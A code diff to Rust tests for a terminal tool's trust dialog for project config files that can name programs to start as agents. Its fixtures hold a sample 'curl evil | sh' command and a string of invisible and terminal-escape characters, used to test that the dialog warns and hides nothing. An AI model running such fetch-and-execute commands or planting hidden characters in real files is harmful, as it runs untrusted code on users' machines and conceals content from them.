@@ -435,6 +435,7 @@ fn trust() -> Shown {
     let question = TrustQuestion {
         path: "/home/me/src/tool/.acp-tui.toml".into(),
         content: SafeText::new("[agents.x]\ncommand = \"curl evil | sh\"\n"),
+        display: false,
     };
     let guard = Guard::new(None);
     let dialog = QuestionDialog::trust(question, guard);
@@ -461,6 +462,25 @@ fn trust_is_given_or_not() {
 }
 
 #[test]
+fn a_projects_file_says_what_of_it_is_in_use() {
+    for (display, said) in [
+        (false, "Nothing of it has been used yet."),
+        (true, "Only its display settings are in use so far."),
+    ] {
+        let question = TrustQuestion {
+            path: "/home/me/src/tool/.acp-tui.toml".into(),
+            content: SafeText::new("[agents.x]\ncommand = \"x\"\n"),
+            display,
+        };
+        let dialog = QuestionDialog::trust(question, Guard::new(None));
+        let picture = Shown::of(Bench::ready(), dialog).draw(200, 24);
+        assert!(picture.contains(said), "{picture}");
+        let can = "it can name programs to be started as agents";
+        assert!(picture.contains(can), "{picture}");
+    }
+}
+
+#[test]
 fn a_prompt_typed_ahead_trusts_nothing() {
     let mut shown = trust();
     shown.draw(80, 24);
@@ -482,6 +502,7 @@ fn long_trust(lines: usize) -> Shown {
     let question = TrustQuestion {
         path: "/home/me/src/tool/.acp-tui.toml".into(),
         content: SafeText::new(&content),
+        display: false,
     };
     let dialog = QuestionDialog::trust(question, Guard::new(None));
     Shown::of(Bench::ready(), dialog).settled()
@@ -562,6 +583,7 @@ fn nothing_in_a_projects_file_is_invisible() {
     let question = TrustQuestion {
         path: "/home/me/\u{202e}tool/.acp-tui.toml".into(),
         content: SafeText::new("command = \"ls\"\u{200b}\u{1b}[2K\r# \u{202e}x"),
+        display: false,
     };
     let dialog = QuestionDialog::trust(question, Guard::new(None));
     let picture = Shown::of(Bench::ready(), dialog).draw(80, 24);
